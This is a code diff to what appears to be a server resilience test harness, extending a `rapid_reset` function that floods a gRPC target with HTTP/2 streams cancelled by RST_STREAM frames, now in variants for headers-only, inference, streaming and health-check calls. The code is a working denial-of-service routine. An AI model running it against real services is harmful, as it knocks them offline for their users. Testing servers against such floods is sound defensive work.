@@ -217,26 +217,42 @@ def headers_without_body(target: Target, number: int = 700_000, path: str = http
     return {"begun": begun, "connections": connections, "closed_by_server": closed}
 
 
-def rapid_reset(target: Target, number: int = 2) -> Counts:
-    """Calls that are reset as soon as they are begun, over `number` connections at a time."""
-    block = http2.header_block(http2.INFER)
+def rapid_reset(target: Target, number: int = 2, kind: str = "headers") -> Counts:
+    """Calls that are reset as soon as they are begun, over `number` connections at a time. kind: "headers": without
+    their request. Else the request comes whole and the reset 10 ms later: of an "infer", of a "stream" with its config,
+    or of a health "check", which is answered meanwhile.
+    """
+    from calls import infer_request, scan, stream_config
+
+    path, message = {
+        "headers": (http2.INFER, None),
+        "infer": (http2.INFER, infer_request(scan(1))),
+        "stream": (http2.INFER_STREAM, stream_config(policy=2)),
+        "check": ("/grpc.health.v1.Health/Check", b""),
+    }[kind]
+    batch = {"headers": 200, "check": 25}.get(kind, 50)  # below the client's share, but for those without a request
+    block = http2.header_block(path)
+    reset = b"\x00\x00\x00\x08"
     begun = [0] * number
     opened = [0] * number
     closed = [0] * number
 
     def attack(i: int) -> None:
-        reset = b"\x00\x00\x00\x08"
         while not target.is_over():
             try:
                 with Connection(target.grpc_port, target.source) as connection:
                     opened[i] += 1
                     while not target.is_over() and not connection.is_closed:
-                        frames = [
-                            http2.call_frames(s, block) + http2.frame(http2.RST_STREAM, 0, s, reset)
-                            for s in connection.streams(200)
-                        ]
-                        connection.send(b"".join(frames))
-                        begun[i] += 200
+                        streams = connection.streams(batch)
+                        calls = [http2.call_frames(s, block, message, end=kind != "stream") for s in streams]
+                        resets = [http2.frame(http2.RST_STREAM, 0, s, reset) for s in streams]
+                        if message is None:
+                            connection.send(b"".join(both for pair in zip(calls, resets, strict=True) for both in pair))
+                        else:
+                            connection.send(b"".join(calls))
+                            time.sleep(0.01)
+                            connection.send(b"".join(resets))
+                        begun[i] += batch
                     closed[i] += connection.is_closed
             except OSError:
                 closed[i] += 1
